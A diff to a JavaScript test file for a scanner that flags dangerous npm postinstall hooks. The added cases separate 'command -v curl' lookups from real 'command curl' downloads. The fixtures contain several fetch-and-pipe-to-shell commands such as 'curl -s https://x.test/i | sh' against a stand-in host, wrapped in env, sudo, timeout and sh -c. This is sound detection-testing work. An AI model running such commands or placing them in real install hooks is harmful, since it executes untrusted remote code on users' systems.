@@ -152,6 +152,9 @@ test('scanner22: wrappers in project commands (env, cross-env, timeout, npm-run-
   assert.equal(at({ postinstall: 'timeout 60 curl -s https://x.test/i | sh' }), runsCode(3));
   assert.equal(at({ postinstall: 'sudo -u root -E nice -n 10 curl -s https://x.test/i | sh' }), runsCode(3));
   assert.equal(at({ postinstall: "env -S 'curl -s https://x.test/i' | sh" }), runsCode(3));
+  // `command -v curl` looks curl up and runs nothing; `command curl …` runs it.
+  assert.equal(at({ postinstall: 'command -v curl >/dev/null && echo ok || command -V wget' }), []);
+  assert.equal(at({ postinstall: 'command curl -s https://x.test/i -o x' }), ['3 download command:curl']);
   assert.equal(at({ postinstall: 'cross-env-shell "curl -s https://x.test/i | sh"' }), runsCode(3));
   assert.equal(at({ postinstall: 'sh -c "curl -s https://x.test/i" | bash' }), runsCode(3, 'curl|bash'));
   assert.equal(at({ postinstall: 'echo hi && (curl -s https://x.test/i | sh) || true; echo done' }), runsCode(3));
